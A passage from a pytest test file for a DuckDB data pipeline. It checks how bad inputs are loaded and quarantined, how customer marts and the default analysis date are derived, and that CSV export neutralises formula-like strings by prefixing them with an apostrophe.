        ("P4", "windows\r\nline break", 4),
        ("P5", None, 5),  # "" is an empty value, i.e. NULL
    ]
    assert load(con, tmp_path / "s", "feedback", LONG_TEXT_FEEDBACK) == (2, 2, 0)
    [(text, n)] = rows(con, "SELECT text, length(text) FROM raw.feedback WHERE feedback_id = 'f1'")
    assert n == 100_000
    assert text == LONG_TEXT


def test_formula_strings_load_unchanged_into_raw(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    """Not executed, not escaped, not dropped: neutralising them is the export's job."""
    assert load(con, tmp_path / "s", "feedback", FORMULA_FEEDBACK) == (5, 5, 0)
    assert [t for (t,) in rows(con, "SELECT text FROM raw.feedback")] == FORMULAS
    products = csv_bytes(
        ["product_id", "name", "category"],
        [[f"=P{i}", text, text] for i, text in enumerate(FORMULAS, 1)],
    )
    assert load(con, tmp_path / "s", "products", products) == (5, 5, 0)
    assert rows(con, "SELECT product_id, name, category FROM raw.products") == [
        (f"=P{i}", text, text) for i, text in enumerate(FORMULAS, 1)
    ]
    customers = csv_bytes(
        ["customer_id", "city", "interests"],
        [[f"c{i}", text, text] for i, text in enumerate(FORMULAS, 1)],
    )
    assert load(con, tmp_path / "s", "customers", customers) == (5, 5, 0)
    assert rows(con, "SELECT city, interests FROM raw.customers") == [(t, t) for t in FORMULAS]


def test_extra_columns_named_like_lineage_columns_keep_their_values_in_quarantine(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    assert load(con, tmp_path / "s", "orders", LINEAGE_NAMED_EXTRAS) == (2, 1, 1)
    assert rows(con, "SELECT order_id, _row_number, _source_file FROM raw.orders") == [
        ("o2", 2, str(tmp_path / "s" / "orders.csv"))
    ]
    assert rows(
        con,
        # snake_case drops the leading underscore, so the file's own columns cannot collide
        "SELECT order_id, _row_number, row_number, reason, source_file, _reason "
        "FROM quarantine.orders",
    ) == [("o1", 1, "99", "mine", "export.xlsx", "ordered_at: cannot parse 'soon' as timestamp")]


# --- one full run: what only the marts show -----------------------------------------------------

RUN_ORDERS = [
    ["o1", "c1", "2024-01-05", "10.00"],
    ["o2", "c1", "2024-03-05", "20.00"],
    ["o3", "c2", "2024-02-05", "30.00"],
    ["o4", "ghost", "2024-04-05", "40.00"],  # no such customer in customers.csv
    ["o5", "c2", "2150-01-01", "50.00"],  # a typo for 2015? 2025? quarantined: far-future
    ["o6", "c2", "2024-13-01", "60.00"],  # quarantined: unparseable
]
RUN_CUSTOMERS = [
    ["c1", "Ann", FORMULAS[0], FORMULAS[3]],
    ["c2", "Bob", FORMULAS[1], FORMULAS[2]],
    ["c2", "Bob again", "York", None],  # quarantined: duplicate key
]


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    root = tmp_path_factory.mktemp("bad-inputs-run")
    sources = root / "sources"
    sources.mkdir()
    (sources / "orders.csv").write_bytes(csv_bytes(ORDERS_HEADER, RUN_ORDERS))
    (sources / "customers.csv").write_bytes(
        csv_bytes(["customer_id", "name", "city", "interests"], RUN_CUSTOMERS)
    )
    warehouse = root / "warehouse.duckdb"
    # no --as-of: the default is what is under test; 2 of 6 orders and 1 of 3 customers are
    # quarantined, above the default thresholds, so the share gate is lifted
    outcome = run_pipeline(sources, warehouse, config=no_share_gate(root))
    assert outcome.exit_code == EXIT_OK, outcome.messages
    return warehouse, outcome.warnings


def test_order_of_an_unknown_customer_derives_the_customer_with_an_empty_profile(
    run: tuple[Path, list[str]],
) -> None:
    warehouse, _ = run
    assert query(
        warehouse,
        "SELECT customer_id, has_profile, city, interests, first_order_date, frequency, "
        "monetary FROM marts.customers ORDER BY customer_id",
    ) == [
        ("c1", True, FORMULAS[0], FORMULAS[3], date(2024, 1, 5), 2, Decimal("30")),
        ("c2", True, FORMULAS[1], FORMULAS[2], date(2024, 2, 5), 1, Decimal("30")),
        ("ghost", False, None, None, date(2024, 4, 5), 1, Decimal("40")),
    ]


def test_a_far_future_order_is_quarantined_and_does_not_move_the_default_as_of(
    run: tuple[Path, list[str]],
) -> None:
    """Without --as-of the analysis date is the day of the latest order (docs/contract.md). The
    order dated 2150 is more than 365 days after the other orders, so it is quarantined and the
    run is dated by the real latest order, ghost's 2024-04-05 (it used to date the whole run
    2150-01-01 and churn every other customer, with only a warning)."""
    warehouse, _ = run
    assert query(warehouse, "SELECT as_of, is_default FROM intermediate.int_as_of_resolved") == [
        (date(2024, 4, 5), True)
    ]
    assert query(
        warehouse, "SELECT customer_id, recency_days FROM marts.customer_rfm ORDER BY 1"
    ) == [("c1", 31), ("c2", 60), ("ghost", 0)]  # 03-05, 02-05 and 04-05 to 2024-04-05
    assert query(
        warehouse,
        "SELECT customer_id, lifecycle_stage FROM marts.customer_tiers ORDER BY 1",
    ) == [("c1", "regular"), ("c2", "new"), ("ghost", "new")]
    # raw holds no out-of-range value, so no expectation fails
    failed = "SELECT count(*) FROM quality.validation_results WHERE NOT success"
    assert query(warehouse, failed) == [(0,)]


def test_the_run_loses_no_row_and_keeps_formula_strings_unchanged(
    run: tuple[Path, list[str]],
) -> None:
    warehouse, _ = run
    assert query(
        warehouse,
        "SELECT source, rows_read, rows_loaded, rows_quarantined FROM raw.load_audit "
        "WHERE status = 'loaded' ORDER BY source",
    ) == [("customers", 3, 2, 1), ("orders", 6, 4, 2)]
    assert query(warehouse, "SELECT _row_number, _reason FROM quarantine.orders") == [
        (
            5,
            "ordered_at: '2150-01-01' is more than 365 days after the other dates "
            "(their main body ends 2024-04-05)",
        ),
        (6, "ordered_at: cannot parse '2024-13-01' as timestamp"),
    ]
    assert query(warehouse, "SELECT _row_number, _reason FROM quarantine.customers") == [
        (3, "duplicate customer_id (first at row 2)")
    ]
    assert query(warehouse, "SELECT city, interests FROM raw.customers ORDER BY 1") == [
        (FORMULAS[1], FORMULAS[2]),
        (FORMULAS[0], FORMULAS[3]),
    ]


def test_csv_export_neutralises_the_formula_strings(
    run: tuple[Path, list[str]], tmp_path: Path
) -> None:
    """The formula strings reach marts.customers (city, interests) as they were; the CSV export
    prefixes each with ' so a spreadsheet shows it as text, and the Parquet export keeps it."""
    warehouse, _ = run
    out = tmp_path / "export"
    assert (
        main(["export", "--warehouse", str(warehouse), "--out", str(out), "--format", "csv"]) == 0
    )
    assert (out / "customers.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    with (out / "customers.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = {row["customer_id"]: row for row in csv.DictReader(fh)}
    cells = sorted((row["city"], row["interests"]) for row in rows.values() if row["city"])
    assert cells == sorted(("'" + a, "'" + b) for a, b in [FORMULAS[1:3], FORMULAS[0:4:3]])
    assert (
        main(["export", "--warehouse", str(warehouse), "--out", str(out), "--format", "parquet"])
        == 0
    )
    parquet = str(out / "customers.parquet")
    got = duckdb.sql(f"select city, interests from '{parquet}' where city is not null").fetchall()
    assert sorted(got) == sorted([(FORMULAS[1], FORMULAS[2]), (FORMULAS[0], FORMULAS[3])])
